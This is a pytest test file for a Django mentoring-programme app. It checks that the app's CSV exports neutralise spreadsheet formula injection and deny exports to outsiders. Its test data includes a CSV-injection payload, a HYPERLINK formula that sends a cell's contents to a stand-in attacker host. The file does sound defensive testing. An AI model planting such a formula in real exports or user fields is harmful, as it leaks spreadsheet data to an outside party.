"""Every programme CSV export (participants, a run's proposal, relationships, the dashboard's
tables) goes through the project's safe writer: a name like =HYPERLINK(...) is text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tandem.programs import selectors, services
from tandem.programs.models import MatchRun
from tandem.programs.tests.factories import make_cohort, make_programme

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]


def _assert_neutralised(cells: list[str], formula: str = FORMULA) -> None:
    assert "'" + formula in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@pytest.fixture
def programme(manager, django_capture_on_commit_callbacks):
    programme = make_programme(manager)
    mentees, mentors = make_cohort(programme, mentees=2, mentors=1)
    for user in (mentees[0], mentors[0]):
        user.full_name = FORMULA
        user.save(update_fields=["full_name"])
    with django_capture_on_commit_callbacks(execute=True):
        run = services.run_start(programme=programme, by=manager)
    run.refresh_from_db()
    assert run.status == MatchRun.Status.DONE
    with django_capture_on_commit_callbacks(execute=True):
        services.run_publish(run=run, by=manager)
    return programme


def test_participants_export_neutralises_formulas(programme, csrf_client_for, manager):
    url = reverse("programs:participants", args=[programme.pk])
    _assert_neutralised(_cells(csrf_client_for(manager).get(url, {"format": "csv"})))


def test_run_export_neutralises_formulas(programme, csrf_client_for, manager):
    run = MatchRun.objects.get(programme=programme)
    url = reverse("programs:run", args=[run.pk])
    _assert_neutralised(_cells(csrf_client_for(manager).get(url, {"format": "csv"})))


def test_relationships_export_neutralises_formulas(programme, csrf_client_for, manager):
    url = reverse("programs:relationships", args=[programme.pk])
    _assert_neutralised(_cells(csrf_client_for(manager).get(url, {"format": "csv"})))


def test_dashboard_exports_neutralise_formulas(programme, csrf_client_for, manager, monkeypatch):
    # The dashboard's tables hold labels and counts; give one label a formula's shape.
    label = "-HYPERLINK(1)"
    monkeypatch.setattr(selectors.reports, "GOAL_BUCKETS", ((100, label),))  # where it is read
    url = reverse("programs:dashboard", args=[programme.pk])
    client = csrf_client_for(manager)
    _assert_neutralised(_cells(client.get(url, {"export": "goals"})), label)
    for key in ("enrolment", "time_to_match", "meetings", "satisfaction", "health"):
        cells = _cells(client.get(url, {"export": key}))
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_an_outsider_gets_no_export(programme, csrf_client_for, outsider):
    url = reverse("programs:participants", args=[programme.pk])
    assert csrf_client_for(outsider).get(url, {"format": "csv"}).status_code == 404
